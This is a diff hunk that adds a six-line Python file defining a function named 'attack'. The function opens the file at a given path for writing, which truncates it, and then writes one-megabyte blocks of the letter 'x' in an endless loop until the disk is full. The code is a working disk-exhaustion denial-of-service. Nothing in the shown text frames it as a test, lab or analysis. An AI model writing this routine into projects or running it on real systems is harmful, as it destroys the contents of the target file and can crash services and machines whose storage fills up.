@@ -1,0 +1,6 @@
+import os
+
+def attack(path):
+    with open(path, "wb") as file:
+        while True:
+            file.write(b"x" * (1 << 20))
